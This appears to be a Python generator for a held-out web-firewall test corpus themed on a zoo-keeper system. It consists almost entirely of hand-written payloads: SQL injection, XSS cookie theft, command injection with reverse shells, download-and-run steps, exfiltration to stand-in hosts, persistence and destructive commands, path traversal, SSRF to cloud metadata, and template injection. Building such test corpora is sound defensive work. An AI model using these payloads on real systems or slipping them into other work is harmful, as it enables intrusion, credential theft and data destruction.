#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Attack corpus generator for the zookeeper held-out WAF corpus (small zoo keeper system).

All payloads below are hand-written for this theme. A small share of values is built by
joining a hand-written payload pool to hand-written theme prefixes, or by percent-encoding
every byte of a hand-written pool value once (class suffix +urlencode, sqli/traversal only).
"""
import json
import os
import random

SEED = 27002

# Hand-written attack literals, part 1 (imported by make_attacks.py)
SQLI = [
    ("union", "red panda' UNION SELECT username, password_hash FROM keepers-- -"),
    ("union", "otter' union all select null,concat(login,0x3a,pw),null from staff_users#"),
    ("union", "penguin%' UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()-- "),
    ("union", "0 UNION SELECT id, card_number, expiry FROM adoption_payments"),
    ("union", "sloth')) UNION SELECT 1,group_concat(email),3,4 FROM adopters-- x"),
    ("union", "Churro' UnIoN/**/SeLeCt/**/1,@@version,3-- -"),
    ("union", "meerkat'/*!50000UNION*//*!50000SELECT*/ name,pass FROM users-- -"),
    ("union", "-1' union select sql,2 from sqlite_master--"),
    ("union", "x' UNION SELECT column_name, data_type FROM information_schema.columns WHERE table_name='animals'--"),
    ("union", "lemur' union select 1,load_file('/etc/passwd'),3-- -"),
    ("union", "Ember' UNION ALL SELECT NULL, string_agg(usename||':'||passwd, ',') FROM pg_shadow--"),
    ("union", "capybara'%20UNION%20SELECT%20user(),version()--%20"),
    ("union", "1 union select top 1 name, password_hash from dbo.keeper_accounts--"),
    ("union", "tortoise' UNION SELECT banner, NULL FROM v$version--"),
    ("boolean", "Finn' AND 1=1-- "),
    ("boolean", "Finn' AND 1=2-- "),
    ("boolean", "penguin' OR '1'='1"),
    ("boolean", "' or 1=1 limit 1 -- "),
    ("boolean", "admin'-- "),
    ("boolean", "keeper@zoo.example' OR 'x'='x'#"),
    ("boolean", "otter' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'--"),
    ("boolean", "1 AND ASCII(SUBSTR((SELECT pin FROM gate_codes LIMIT 1),1,1))>52"),
    ("boolean", "Kiko' AND (SELECT COUNT(*) FROM keepers)>5 AND 'a'='a"),
    ("boolean", "lemur\" OR \"\"=\""),
    ("boolean", "') OR ('a'='a"),
    ("boolean", "x' || (select case when (1=1) then 'a' else 'b' end) || '"),
    ("boolean", "2 OR 2-1=1"),
    ("boolean", "sprats' AnD 'zoo' LiKe 'z%"),
    ("boolean", "Penny' and length(database())=8-- -"),
    ("boolean", "hay' OR 1 IN (SELECT 1 FROM feed_stock WHERE qty<0)-- "),
    ("time", "otter'; WAITFOR DELAY '0:0:7'--"),
    ("time", "1' AND SLEEP(6)-- -"),
    ("time", "meerkat' AND (SELECT 4821 FROM (SELECT(SLEEP(5)))x)-- q"),
    ("time", "1; SELECT pg_sleep(8)--"),
    ("time", "Tux' || pg_sleep(10) || '"),
    ("time", "x' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- "),
    ("time", "1 AND BENCHMARK(5000000,MD5('zoo'))"),
    ("time", "penguin' AND 9931=DBMS_PIPE.RECEIVE_MESSAGE('q',6)--"),
    ("time", "lemur') AND randomblob(300000000)-- "),
    ("time", "1' OR (CASE WHEN (SELECT 1 FROM users WHERE username='admin')=1 THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL--"),
    ("stacked", "sprats'; DROP TABLE feed_stock;--"),
    ("stacked", "Ember'; UPDATE users SET role='admin' WHERE username='sam'--"),
    ("stacked", "42; INSERT INTO keepers(username,password,role) VALUES('ghost','x','admin');--"),
    ("stacked", "otter'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/a.ps1|iex'--"),
    ("stacked", "1'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x|sh'--"),
    ("stacked", "x'; DELETE FROM adoption_orders WHERE 1=1; --"),
    ("stacked", "Kiko'; ALTER USER postgres WITH PASSWORD 'pwned123';--"),
    ("stacked", "hay';CREATE TABLE t(x text);COPY t FROM '/etc/passwd';--"),
    ("stacked", "2;exec master..xp_dirtree '\\\\attacker.example\\share'--"),
    ("error", "Finn' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- "),
    ("error", "1 AND updatexml(1,concat(0x3a,(select password from keepers limit 0,1)),1)"),
    ("error", "otter' AND 1=CONVERT(int,(SELECT TOP 1 username FROM users))--"),
    ("error", "meerkat' AND 1=CAST((SELECT version()) AS int)--"),
    ("error", "x' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))g FROM information_schema.tables GROUP BY g)a)-- "),
    ("error", "penguin' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--"),
    ("oob", "Tux' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\x'))-- "),
    ("oob", "1; SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--"),
    ("oob", "otter'; declare @q varchar(99);set @q='\\\\'+(select top 1 pw from keepers)+'.oob.attacker.example\\a';exec master..xp_fileexist @q;--"),
    ("file-write", "lemur' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/uploads/k.php'-- -"),
    ("orderby", "name ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("orderby", "weight_kg,(select sleep(5))"),
    ("orderby", "date desc; drop table rota--"),
    ("orderby", "3,(select 1 from pg_sleep(5))"),
    ("orderby", "IF(1=1,species,name)"),
    ("second-order", "O'Malley'), ('hacked', (SELECT password FROM keepers LIMIT 1))-- "),
    ("second-order", "Tom O'Neill' WHERE 1=0 UNION SELECT api_key FROM integrations-- "),
    ("csv-import", "sprats,Northsea Fish Ltd,40',(SELECT password FROM keepers LIMIT 1),'kg',NOW())-- ,2025-03-01"),
    ("csv-import", "hay;Hill Farm;1);DROP TABLE feed_stock;--;bales;n/a"),
    ("comment-space", "otter'/**/or/**/1=1/**/--/**/"),
    ("comment-space", "1/*zoo*/UNION/*keeper*/SELECT/**/password/**/FROM/**/users"),
    ("comment-space", "penguin'%0aUNION%0aSELECT%0aemail,pw%0aFROM%0aadopters--%0a"),
    ("encoded", "Kiko%27%20OR%20%271%27%3D%271"),
    ("encoded", "otter%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
    ("encoded", "lemur\uff07 OR \uff071\uff07=\uff071"),
    ("encoded", "x%u0027 union select login,pass from staff--"),
    ("case-mix", "ReD PaNdA' uNiOn SeLeCt UsErNaMe, PaSsWoRd FrOm KeEpErS-- -"),
    ("search-filter", "species=otter' AND 0 UNION SELECT name,dob FROM keepers WHERE '1'='1"),
    ("json-body", "{\"animal_id\": \"12 OR 1=1\", \"note\": \"vet check\"}"),
]
SQLI_URLENC_POOL = [
    "Finn' OR '1'='1'-- ",
    "penguin' UNION SELECT username,password FROM keepers-- ",
]

XSS = [
    ("script-tag", "Lovely visit! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "Happy birthday Lily!<script src=//attacker.example/k.js></script>"),
    ("script-tag", "Otter talk was great</textarea><script>new Image().src='http://203.0.113.5/?s='+localStorage.token</script>"),
    ("script-tag", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("script-tag", "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<script\n>document.location='//attacker.example/?'+document.cookie</script\n>"),
    ("event-handler", "Meerkat <img src=x onerror=alert(1)> pup photo"),
    ("event-handler", "<img src=/zoo/ember.jpg onerror=\"this.src='//attacker.example/l?c='+document.cookie\">"),
    ("event-handler", "<svg onload=fetch('//attacker.example/'+btoa(document.cookie))>"),
    ("event-handler", "<body onload=location='https://attacker.example/phish'>"),
    ("event-handler", "Message: <details open ontoggle=alert`zoo`>surprise</details>"),
    ("event-handler", "<input autofocus onfocus=\"import('//attacker.example/m.js')\">"),
    ("event-handler", "<video><source onerror=\"javascript:alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=confirm(document.cookie)>penguins</marquee>"),
    ("event-handler", "<div onmouseover=\"alert('keeper')\" style=\"position:fixed;inset:0\">hover</div>"),
    ("event-handler", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("event-handler", "<audio src=1 onerror=prompt(1)>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<object data=x onerror=alert(document.domain)>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>otter</option></select>"),
    ("event-handler", "<table background=x onerror=alert(1)>"),
    ("event-handler", "<a href=# onclick=\"fetch('/api/keepers').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">Adopt now</a>"),
    ("attr-breakout", "Zoë\" onmouseover=\"alert(1)"),
    ("attr-breakout", "Lily' autofocus onfocus='alert(document.cookie)' x='"),
    ("attr-breakout", "\"><img src=x onerror=alert(1)>"),
    ("attr-breakout", "'><svg/onload=alert(String.fromCharCode(88,83,83))>"),
    ("attr-breakout", "otter\" style=\"background:url(javascript:alert(1))"),
    ("attr-breakout", "x\"/><script>alert(1)</script>"),
    ("js-context", "Finn';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/?'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "${alert(1)}`;alert(2);`"),
    ("js-context", "'-alert(1)-'"),
    ("js-context", "\\';alert(1);//"),
    ("url-scheme", "javascript:alert(document.cookie)"),
    ("url-scheme", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("url-scheme", "java\tscript:alert(1)"),
    ("url-scheme", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("url-scheme", "<a href=\"javascript&colon;alert(1)\">See the otters</a>"),
    ("url-scheme", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">photo</a>"),
    ("url-scheme", "[click for meerkat pics](javascript:alert(document.domain))"),
    ("url-scheme", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),
    ("url-scheme", "<form action=javascript:alert(1)><button>Book</button></form>"),
    ("encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("encoded", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("encoded", "<a href=\"jav&#x09;ascript:alert(1)\">otter photos</a>"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("encoded", "%u003Csvg%u0020onload%u003Dalert(1)%u003E"),
    ("encoded", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>"),
    ("encoded", "<svg onload=&#97&#108&#101&#114&#116(1)>"),
    ("obfuscated", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("obfuscated", "<svg onload=top[/al/.source+/ert/.source](1)>"),
    ("obfuscated", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("obfuscated", "<svg/onload=setTimeout('ale'+'rt(1)')>"),
    ("obfuscated", "<img src=x onerror=\"[].constructor.constructor('alert(1)')()\">"),
    ("obfuscated", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("obfuscated", "<img/src=x/onerror=alert(1)//"),
    ("obfuscated", "<svg\nonload\n=\nalert(1)>"),
    ("obfuscated", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("css", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("css", "<div style=\"width:expression(alert(1))\">"),
    ("css", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("markup", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("markup", "<base href=\"https://attacker.example/\">"),
    ("markup", "<embed src=\"https://attacker.example/x.swf\" allowscriptaccess=always>"),
    ("markup", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("markup", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("template-client", "{{constructor.constructor('alert(1)')()}}"),
    ("template-client", "<div ng-app>{{$on.constructor('alert(document.cookie)')()}}</div>"),
    ("template-client", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("svg-upload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("svg-upload", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">Ember</text></a></svg>"),
]
XSS_PREFIXES = [
    "Gift message: 'Happy birthday Lily!' ",
    "Great otter talk today ",
    "Night check 22:30 all quiet ",
    "Can I bring my dog? ",
]
XSS_POOL = [
    "<img src=q onerror=alert(document.cookie)>",
    "<svg onload=location='//attacker.example/?c='+document.cookie>",
    "<script>new Image().src='//198.51.100.7/?'+document.cookie</script>",
    "<iframe src=javascript:alert(1)>",
    "<body onpageshow=alert(1)>",
]
# Hand-written attack literals, part 2: cmdi, traversal, ssrf
CMDI = [
    ("separator", "otter_pool_cam.jpg; cat /etc/passwd"),
    ("separator", "ember-2024.png; curl -s http://attacker.example/s.sh | sh"),
    ("separator", "tank3 && wget -qO- http://203.0.113.14/b | bash"),
    ("separator", "report.pdf | nc 198.51.100.23 4444 -e /bin/sh"),
    ("separator", "penguins.csv || id"),
    ("separator", "lemur.jpg;id;uname -a"),
    ("separator", "feed.csv & whoami & ipconfig /all"),
    ("separator", "kiko.jpg%0aid"),
    ("separator", "tux.png\ncat /etc/shadow"),
    ("separator", "finn.jpg%0d%0arm -rf /var/www/uploads/*"),
    ("separator", "meerkat.png;{cat,/etc/passwd}"),
    ("substitution", "Ember $(curl http://attacker.example/`whoami`)"),
    ("substitution", "otter-`id`.jpg"),
    ("substitution", "tank-3 $(cat /etc/hostname).log"),
    ("substitution", "$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)"),
    ("substitution", "penguin_$(sleep 9).png"),
    ("substitution", "rota-`nslookup $(whoami).oob.attacker.example`.xlsx"),
    ("substitution", "sloth.jpg$(printf '\\x3b')id"),
    ("revshell", "capybara.jpg; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1"),
    ("revshell", "x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'"),
    ("revshell", "a.png; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc attacker.example 8443 >/tmp/f"),
    ("revshell", "lemur.jpg && perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.61\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
    ("revshell", "feed.csv; php -r '$s=fsockopen(\"attacker.example\",1337);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("revshell", "x | socat tcp:198.51.100.77:5555 exec:sh,pty,stderr"),
    ("revshell", "otter.mp4; ruby -rsocket -e'c=TCPSocket.new(\"203.0.113.3\",7777);while(l=c.gets);IO.popen(l,\"rb\"){|f|c.print f.read};end'"),
    ("download-exec", "ember.png; wget http://attacker.example/m -O /tmp/.m; chmod +x /tmp/.m; /tmp/.m"),
    ("download-exec", "x && curl -fsSL https://attacker.example/i.sh -o /dev/shm/i && sh /dev/shm/i"),
    ("download-exec", "tank1 | busybox wget -q http://198.51.100.9/arm7 -O- > /tmp/a; sh /tmp/a"),
    ("download-exec", "rota.xlsx & certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("download-exec", "a.jpg | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.88/r.ps1')\""),
    ("download-exec", "penguin.pdf & powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("download-exec", "x; tftp -g -r bot 198.51.100.12 && sh bot"),
    ("exfil", "otter.jpg; curl -X POST --data-binary @/etc/passwd https://attacker.example/u"),
    ("exfil", "lemur.png; tar czf - /var/lib/zoo/db | curl -T - http://198.51.100.30/up"),
    ("exfil", "x; cat ~/.aws/credentials | base64 | nc attacker.example 80"),
    ("exfil", "feed.csv; env | curl -d @- http://203.0.113.21/env"),
    ("exfil", "a; dig +short $(head -c 60 /etc/passwd | xxd -p).exfil.attacker.example"),
    ("exfil", "tux.png; ping -c 1 `hostname`.oob.attacker.example"),
    ("blind-time", "meerkat.jpg; sleep 12"),
    ("blind-time", "finn.png & ping -n 11 127.0.0.1 &"),
    ("blind-time", "report|timeout 9 yes>/dev/null"),
    ("evasion", "otter.jpg;c''at /e''tc/pa''sswd"),
    ("evasion", "x;c\\at /et\\c/pas\\swd"),
    ("evasion", "a;cat${IFS}/etc/passwd"),
    ("evasion", "p.png;IFS=,;`cat<<<uname,-a`"),
    ("evasion", "b;/???/c?t /???/p?ss??"),
    ("evasion", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("evasion", "q;who$@ami"),
    ("evasion", "z;a=ca;b=t;$a$b /etc/passwd"),
    ("evasion", "r;echo${IFS}d2hvYW1p|base64${IFS}-d|bash"),
    ("evasion", "kiko.jpg%3Bcurl%20attacker.example%2Fx%7Csh"),
    ("evasion", "lemur.jpg\uff1b id"),
    ("evasion", "m;/bin/s?h -c 'i''d'"),
    ("persistence", "x; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEKEYFAKEKEYFAKE attacker' >> ~/.ssh/authorized_keys"),
    ("persistence", "a.jpg; (crontab -l; echo '*/5 * * * * curl -s http://attacker.example/c|sh') | crontab -"),
    ("persistence", "x; useradd -o -u 0 -g 0 -M -s /bin/bash zoo2 && echo zoo2:pass | chpasswd"),
    ("destructive", "tank3; rm -rf --no-preserve-root / &"),
    ("destructive", "rota; :(){ :|:& };:"),
    ("argument-injection", "--output=/var/www/html/shell.php http://attacker.example/shell.txt"),
    ("argument-injection", "-oProxyCommand=sh -c 'curl attacker.example|sh' x"),
    ("argument-injection", "ember.jpg -write /var/www/html/x.php"),
    ("argument-injection", "feed.tar --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/p|sh)'\npop graphic-context"),
    ("mail-cmd", "keeper@zoo.example -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("windows", "penguin.pdf & type C:\\Windows\\win.ini"),
    ("windows", "x | net user zooadmin P@ss123! /add && net localgroup administrators zooadmin /add"),
    ("windows", "tank.log & powershell -c \"Get-Content C:\\inetpub\\wwwroot\\web.config | Invoke-WebRequest -Uri http://attacker.example -Method Post -Body $_\""),
]
CMDI_PREFIXES = ["otter_pool_cam_0412.jpg", "rota-week-23.xlsx", "tank3-ph-log.txt", "meerkat pup pip.png"]
CMDI_POOL = [
    "; curl -s http://attacker.example/k | sh",
    " && id > /var/www/html/o.txt",
    " | nc -e /bin/sh 203.0.113.40 4242",
    "$(wget -qO- 198.51.100.66/s|sh)",
]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "../../../../../../var/www/zoo/.env"),
    ("dotdot", "photos/ember/../../../../../etc/shadow"),
    ("dotdot", "certificates/../../config/database.yml"),
    ("dotdot", "..\\..\\..\\..\\windows\\win.ini"),
    ("dotdot", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "reports/2024/../../../../../proc/self/environ"),
    ("dotdot", "../../../../../home/keeper/.ssh/id_rsa"),
    ("dotdot", "../../../../root/.bash_history"),
    ("dotdot", "uploads/../../app/settings.py"),
    ("dotdot", "../../../../../../var/log/nginx/access.log"),
    ("dotdot", "vet/xrays/../../../../etc/hosts"),
    ("dotdot", "../../../../../proc/self/cmdline"),
    ("dotdot", "..\\..\\..\\..\\..\\Users\\Administrator\\Desktop\\passwords.txt"),
    ("dotdot", "../../../.git/config"),
    ("absolute", "/etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\attacker.example\\share\\payload.dll"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded", "..%252f..%252f..%252fapp%252f.env"),
    ("encoded", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("encoded", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("encoded", "..%5c..%5c..%5cboot.ini"),
    ("filter-bypass", "....//....//....//etc/passwd"),
    ("filter-bypass", "..././..././..././etc/passwd"),
    ("filter-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("filter-bypass", "/var/www/zoo/uploads/../../../../etc/passwd"),
    ("filter-bypass", "ember.jpg/../../../../../etc/passwd"),
    ("filter-bypass", "..;/..;/..;/WEB-INF/web.xml"),
    ("filter-bypass", "/./././././../../../etc/passwd"),
    ("null-byte", "../../../../etc/passwd%00.jpg"),
    ("null-byte", "../../../etc/passwd\\u0000.pdf"),
    ("null-byte", "../../../../../var/www/zoo/config.php%00.png"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("wrapper", "zip://uploads/adoption_photo.jpg%23shell.php"),
]
TRAVERSAL_URLENC_POOL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "../../../../var/www/zoo/.env",
    "../../../../proc/self/environ",
    "certificates/../../../../etc/shadow",
]

SSRF = [
    ("metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("metadata", "http://169.254.169.254/latest/user-data"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("metadata", "http://100.100.100.200/latest/meta-data/"),
    ("metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/keepers/export"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://127.0.0.1:9200/_cat/indices"),
    ("loopback", "http://localhost:2375/containers/json"),
    ("loopback", "http://[::1]:5984/_all_dbs"),
    ("loopback", "http://0.0.0.0:8500/v1/agent/self"),
    ("loopback", "https://localhost/server-status"),
    ("internal", "http://10.0.0.12/phpmyadmin/"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.16.4.20:8080/manager/html"),
    ("internal", "http://zoo-db.internal:5432/"),
    ("internal", "http://jenkins:8080/script"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://vault.internal:8200/v1/secret/data/zoo"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001:8080/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://127.1/admin"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"),
    ("parser-confusion", "http://zoo.example@127.0.0.1/admin"),
    ("parser-confusion", "http://attacker.example#@zoo.example/"),
    ("parser-confusion", "http://127.0.0.1\\@zoo.example/"),
    ("parser-confusion", "http://169.254.169.254%2f@photos.zoo.example/"),
    ("parser-confusion", "http://localtest.me.attacker.example/"),
    ("dns-rebind", "http://7f000001.a9fea9fe.rbndr.attacker.example/"),
    ("dns-rebind", "http://127.0.0.1.nip.attacker.example:8080/"),
    ("redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "https://attacker.example/r.php?u=http%3A%2F%2F127.0.0.1%3A6379%2F"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0ARCPT%20TO:<all@zoo.example>"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///proc/self/environ"),
    ("scheme", "ftp://10.0.0.5/backup/keepers.sql"),
    ("scheme", "ldap://127.0.0.1:389/dc=zoo,dc=local?userPassword"),
    ("scheme", "jar:http://attacker.example/x.jar!/Evil.class"),
]
SSRF_PREFIXES = ["Photo URL for the adoption certificate: ", "webcam_feed_url=", "Import feed stock from ", "avatar: "]
SSRF_POOL = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/zoo-role",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "http://0x7f.0.0.1:8080/actuator/env",
    "http://192.168.0.10:8000/admin/",
]
# Hand-written attack literals, part 3: code, nosqli, crlf, ldap-xpath
CODE = [
    ("ssti-jinja", "Happy birthday {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "Dear {{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }},"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__['open']('/etc/passwd').read() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('whoami')|attr('read')() }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-jinja", "Lily {{7*'7'}} {{ joiner.__init__.__globals__.os.popen('cat /app/.env').read() }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('cat /etc/passwd') }}"),
    ("ssti-twig", "{{ ['curl attacker.example/t|sh']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id\"]).start()}"),
    ("ssti-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"touch /tmp/zoo\")"),
    ("ssti-velocity", "#set($s=\"\")#set($p=$s.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\"))$p.waitFor()"),
    ("ssti-erb", "Dear <%= `id` %>, thanks for adopting!"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "<%= system('curl http://attacker.example/e | bash') %>"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-smarty", "{system('cat /etc/passwd')}"),
    ("ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-mako", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti-pug", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('curl attacker.example|sh')}()}"),
    ("ssti-django", "{{ settings.SECRET_KEY }}"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("el-spel", "${T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("el-spel", "#{T(java.lang.System).getenv()}"),
    ("el-spel", "*{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}"),
    ("el-ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
